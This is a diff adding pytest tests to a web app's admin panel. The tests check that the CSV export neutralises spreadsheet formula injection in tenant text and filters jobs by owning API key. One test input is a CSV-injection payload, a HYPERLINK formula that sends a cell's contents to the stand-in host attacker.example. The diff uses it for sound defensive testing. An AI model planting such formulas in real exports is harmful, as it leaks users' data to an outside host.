@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import re
 
 import pytest
@@ -133,3 +135,54 @@ def test_the_list_searches_the_input_text_and_filters_by_status(locked):
 
     assert listed_ids(locked, "search=hairnet") == {hairnet}
     assert listed_ids(locked, "flt0_0=canceled") == {gloves}
+
+
+def exported(client) -> list[dict[str, str]]:
+    """The admin's CSV export, as rows by column title."""
+    response = client.get("/admin/jobs/export/csv/", headers=OPERATOR)
+    assert response.status_code == 200, response.get_data(as_text=True)[-500:]
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("https://attacker.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+)
+def test_the_csv_export_defuses_a_formula_in_tenant_text(locked, text):
+    event_id = submit(locked, text)
+
+    row = next(row for row in exported(locked) if row["Event id"] == event_id)
+
+    assert row["Input text"] == "'" + text
+
+
+def test_the_csv_export_leaves_ordinary_text_alone(locked):
+    event_id = submit(locked, "Wear a hairnet; 2 - 1 = 1.")
+
+    row = next(row for row in exported(locked) if row["Event id"] == event_id)
+
+    assert row["Input text"] == "Wear a hairnet; 2 - 1 = 1."
+
+
+@pytest.fixture
+def tenants(stack_env, tmp_path):
+    """An app with two named API keys and ADMIN_PASSWORD, on an empty database."""
+    env = {**stack_env, "DATABASE_URL": f"sqlite:///{tmp_path}/t.sqlite3", "QUEUE_NAME": "unattended"}
+    return fresh_app({**env, "ADMIN_PASSWORD": "s3cret", "API_KEYS": "shop:sk-shop,crm:sk-crm"}).test_client()
+
+
+def submit_as(client, key: str, text: str) -> str:
+    response = client.post("/jobs/", json={"input_text": text}, headers={"Authorization": f"Bearer {key}"})
+    assert response.status_code == 201, response.get_json()
+    return response.get_json()["event_id"]
+
+
+def test_the_admin_lists_filters_and_exports_each_jobs_owner(tenants):
+    shop = submit_as(tenants, "sk-shop", "Wear a hairnet.")
+    crm = submit_as(tenants, "sk-crm", "Wear gloves.")
+    page = tenants.get("/admin/jobs/", headers=OPERATOR).get_data(as_text=True)
+    by_owner = next(n for n, f in enumerate(JobAdmin.column_filters) if f.name == "Owner (API key)")
+
+    assert "Owner (API key)" in page
+    assert listed_ids(tenants, f"flt0_{by_owner}=shop") == {shop}
+    owners = {row["Event id"]: row["Owner (API key)"] for row in exported(tenants)}
+    assert owners == {shop: "shop", crm: "crm"}
